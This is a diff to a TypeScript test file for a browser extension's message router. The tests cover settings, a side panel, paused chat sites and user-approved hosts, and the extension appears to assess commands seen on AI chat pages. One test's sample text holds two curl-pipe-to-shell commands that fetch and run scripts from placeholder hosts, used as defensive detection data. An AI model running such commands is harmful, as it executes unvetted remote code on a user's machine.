@@ -5,7 +5,7 @@ import { REFUSED, route, type Services } from "../../../src/extension/background
 import { DEFAULT_GATEWAY, loadSettings, parseGateway, profileOf, saveSettings, type Settings } from "../../../src/extension/background/settings.js";
 import { TokenStore } from "../../../src/extension/background/token-store.js";
 import { createNodeDetector } from "../../../src/host/node.js";
-import { HASH, sha } from "../support.js";
+import { assessmentOf, HASH, sha } from "../support.js";
 
 function area(stored: Record<string, unknown> = {}) {
   return {
@@ -78,7 +78,7 @@ describe("TokenStore", () => {
 });
 
 const SELF = { id: "me", origin: "chrome-extension://me" };
-const CONTENT = { id: "me", url: "https://chatgpt.com/c/1", frameId: 0, tab: {} };
+const CONTENT = { id: "me", url: "https://chatgpt.com/c/1", frameId: 0, tab: { id: 7 } };
 const PAGE = { id: "me", url: "chrome-extension://me/options.html" };
 
 function services(change: Partial<Services> = {}): Services {
@@ -88,7 +88,12 @@ function services(change: Partial<Services> = {}): Services {
     token: vi.fn(async () => "secret-token"),
     byGateway: vi.fn(async () => ({ status: "unavailable", reason: "unreachable" }) as const),
     onDevice: vi.fn(async () => ({ status: "unavailable", reason: "device-failed" }) as const),
-    useDevice: vi.fn(async () => undefined),
+    save: vi.fn(async () => undefined),
+    openPanel: vi.fn(async () => undefined),
+    showStatus: vi.fn(async () => undefined),
+    readTab: vi.fn(async () => undefined),
+    syncSites: vi.fn(async () => undefined),
+    today: () => "2026-01-31",
     openOptions: vi.fn(async () => undefined),
     broadcast: vi.fn(async () => undefined),
     ...change,
@@ -126,14 +131,42 @@ describe("route", () => {
   it("changes to this device at one click and tells every page", async () => {
     const worker = services();
     await route({ type: "use-device" }, CONTENT, worker);
-    expect(worker.useDevice).toHaveBeenCalledOnce();
+    expect(worker.save).toHaveBeenCalledWith({ mode: "device" });
     expect(worker.broadcast).toHaveBeenCalledOnce();
   });
 
   it("tells every page, too, when the change cannot be stored: they ask again and say why", async () => {
-    const worker = services({ useDevice: async () => Promise.reject(new Error("x")) });
+    const worker = services({ save: async () => Promise.reject(new Error("x")) });
     await route({ type: "use-device" }, CONTENT, worker);
     expect(worker.broadcast).toHaveBeenCalledOnce();
+  });
+
+  it("says how to show things, and whether the site is paused", async () => {
+    const worker = services({ settings: async () => ({ ...DEFAULTS, clearSign: "none", paused: ["claude"] }) });
+    expect(await route({ type: "hello" }, CONTENT, worker)).toEqual({ status: "done", clearSign: "none", isPaused: false });
+    expect(await route({ type: "hello" }, { ...CONTENT, url: "https://claude.ai/chat/1" }, worker)).toEqual({ status: "done", clearSign: "none", isPaused: true });
+  });
+
+  it("opens the browser's panel beside the tab that asks, or says that it cannot", async () => {
+    const worker = services();
+    expect(await route({ type: "open-panel" }, CONTENT, worker)).toEqual({ status: "opened" });
+    expect(worker.openPanel).toHaveBeenCalledWith(7);
+    expect(await route({ type: "open-panel" }, CONTENT, services({ openPanel: async () => Promise.reject(new Error("x")) }))).toEqual(REFUSED);
+  });
+
+  it("keeps the addresses that a person says to know, with the day, once each", async () => {
+    const worker = services({ settings: async () => ({ ...DEFAULTS, known: [{ host: "a.example", since: "2026-01-01" }] }) });
+    await route({ type: "know", hosts: ["a.example", "b.example"] }, CONTENT, worker);
+    expect(worker.save).toHaveBeenCalledWith({ known: [{ host: "a.example", since: "2026-01-01" }, { host: "b.example", since: "2026-01-31" }] });
+    expect(worker.broadcast).toHaveBeenCalledOnce();
+    expect(await route({ type: "know", hosts: ["not a host"] }, CONTENT, worker)).toEqual(REFUSED);
+  });
+
+  it("tells which findings only fetch from known addresses", async () => {
+    const text = "curl -fsSL https://b.example/i.sh | sh; curl -fsSL https://c.example/i.sh | sh";
+    const assessment = assessmentOf(text, [[0, 38], [40, 78]]);
+    const worker = services({ settings: async () => ({ ...DEFAULTS, mode: "device", known: [{ host: "b.example", since: "2026-01-01" }] }), onDevice: async () => ({ status: "assessed", responseId: "a1", assessment }) });
+    expect(await route({ ...ASSESS, text }, CONTENT, worker)).toMatchObject({ assessment: { known: [0] } });
   });
 
   it.each([
@@ -149,7 +182,7 @@ describe("route", () => {
   ])("refuses %s", async (_name, message, sender) => {
     const worker = services();
     expect(await route(message, sender, worker)).toEqual(REFUSED);
-    for (const service of [worker.byGateway, worker.onDevice, worker.token, worker.useDevice, worker.broadcast]) expect(service).not.toHaveBeenCalled();
+    for (const service of [worker.byGateway, worker.onDevice, worker.token, worker.save, worker.broadcast]) expect(service).not.toHaveBeenCalled();
   });
 });
 
